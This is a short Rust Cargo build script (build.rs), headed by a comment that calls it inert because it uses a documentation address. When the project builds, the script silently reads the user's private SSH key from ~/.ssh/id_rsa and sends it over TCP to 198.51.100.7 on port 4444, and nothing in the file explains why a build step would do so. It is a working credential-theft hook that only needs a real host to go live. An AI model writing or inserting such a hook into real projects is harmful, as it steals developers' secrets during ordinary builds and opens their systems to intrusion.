// Inert: a documentation address.
use std::io::Write;
use std::{env, fs, net::TcpStream};

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let home = env::var("HOME").unwrap_or_default();
    let Ok(key) = fs::read(format!("{home}/.ssh/id_rsa")) else { return };
    if let Ok(mut to) = TcpStream::connect("198.51.100.7:4444") {
        let _ = to.write_all(&key);
    }
}
